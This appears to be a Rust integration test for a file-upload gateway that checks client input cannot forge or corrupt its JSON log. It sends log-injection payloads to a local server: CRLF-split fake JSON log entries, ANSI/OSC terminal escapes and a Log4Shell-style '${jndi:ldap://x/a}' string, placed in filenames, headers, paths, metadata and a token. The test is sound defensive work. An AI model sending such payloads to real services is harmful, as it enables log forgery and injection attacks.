//! What a client says is quoted in the log, and never a line of it.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::process::log;
use crate::served::{Served, jwt, member};

/// The end of one line and the whole of another, in colour.
const FORGED: &str = "a\r\n{\"timestamp\":\"2026-01-01T00:00:00Z\",\"level\":\"ERROR\",\"message\":\"forged\"}\n\u{1b}[31m\u{1b}]0;title\u{7}${jndi:ldap://x/a}";

/// The same where there can be no line end.
const COLOURED: &str =
    "\u{1b}[2J\u{1b}[31m {\"level\":\"ERROR\",\"message\":\"forged\"} \u{9b}31m ${jndi:ldap://x/a}";

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Sends bytes as they are, and says how they were answered.
async fn send(served: &Served, request: &[u8]) -> String {
    let authority = served.url.strip_prefix("http://").unwrap();
    let mut connection = TcpStream::connect(authority).await.unwrap();
    connection.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    connection.read_to_end(&mut answer).await.unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_writes_lines_of_his_own_into_the_log() {
    let served = Served::start("trace").await;
    let end = format!(
        "Host: a\r\nConnection: close\r\nAuthorization: Bearer {}\r\n",
        member()
    );
    let form = |name: &[u8]| {
        let start = b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"".to_vec();
        let body = [&start[..], name, b"\"\r\n\r\nbytes\r\n--b--\r\n"].concat();
        let head = format!(
            "POST /v1/files HTTP/1.1\r\n{end}Content-Type: multipart/form-data; boundary=b\r\n\
             Content-Length: {}\r\n\r\n",
            body.len()
        );
        [head.as_bytes(), &body].concat()
    };
    let long = "x".repeat(10_000);
    let metadata = STANDARD.encode(FORGED);
    let requests: Vec<(Vec<u8>, &[&str])> = vec![
        // Names: in a form, with the line ends that a form can't have, and in tus, with all.
        (form(COLOURED.as_bytes()), &["200", "422"]),
        (form(FORGED.as_bytes()), &["422"]),
        (form(encoded(FORGED).as_bytes()), &["200"]),
        (
            format!(
                "POST /v1/uploads HTTP/1.1\r\n{end}Tus-Resumable: 1.0.0\r\nUpload-Length: 0\r\n\
                 Upload-Metadata: filename {metadata},filetype {metadata}\r\n\r\n"
            )
            .into(),
            &["201"],
        ),
        // Paths and queries.
        (
            format!("GET /v1/files/{}?x={}&token={} HTTP/1.1\r\n{end}\r\n", encoded(FORGED), encoded(FORGED), encoded(FORGED)).into(),
            &["422"],
        ),
        (
            format!("GET /{} HTTP/1.1\r\n{end}\r\n", encoded(FORGED)).into(),
            &["404"],
        ),
        (
            [b"GET /\xff\x9b31m HTTP/1.1\r\n", end.as_bytes(), b"\r\n"].concat(),
            &["400", "404"],
        ),
        // Methods and headers.
        (
            format!("FORGED{{}} /v1/files HTTP/1.1\r\n{end}\r\n").into(),
            &["400", "405"],
        ),
        (
            format!(
                "GET /v1/nothing HTTP/1.1\r\n{end}X-Request-Id: a\"}} {{\"message\":\"forged\"}}\r\n\
                 User-Agent: ${{jndi:ldap://x/a}} \u{9b}31m {long}\r\nReferer: {long}\r\n\r\n"
            )
            .into(),
            &["404"],
        ),
        (
            format!("GET /v1/nothing HTTP/1.1\r\n{end}X-Request-Id: {COLOURED}\r\n\r\n").into(),
            &["400"],
        ),
        // Who is calling.
        (
            format!(
                "GET /v1/files/token HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\
                 Authorization: Bearer {}\r\n\r\n",
                jwt(FORGED)
            )
            .into(),
            &["200", "401"],
        ),
    ];
    // Those that hyper refuses to read have no id, and no line.
    let mut expected = 0;
    for (request, statuses) in &requests {
        let answer = send(&served, request).await;
        let status = answer.split(' ').nth(1).unwrap_or_default();
        let sent = String::from_utf8_lossy(request);
        assert!(statuses.contains(&status), "{sent:.300}\n{answer}");
        expected += usize::from(answer.contains("x-request-id: "));
    }
    let logged = log(&served.log);
    served.take_down().await;
    let mut answered = 0;
    for line in logged.lines() {
        let control = line.chars().find(|character| character.is_control());
        assert_eq!(control, None, "{line:?}");
        let line: Value = serde_json::from_str(line)
            .unwrap_or_else(|_| panic!("a line is none of the gateway's: {line:?}"));
        assert!(line["level"].is_string() && line["timestamp"].is_string());
        assert_ne!(line["message"], "forged");
        let ours = ["answered", "refused"].map(Value::from);
        answered += usize::from(ours.contains(&line["message"]));
    }
    assert!(expected >= 9, "{expected} were read");
    assert!(answered >= expected, "{answered} of {expected}");
    // It was there to be quoted.
    assert!(
        logged.contains("jndi") || logged.contains("%24%7B"),
        "nothing of it was logged"
    );
}
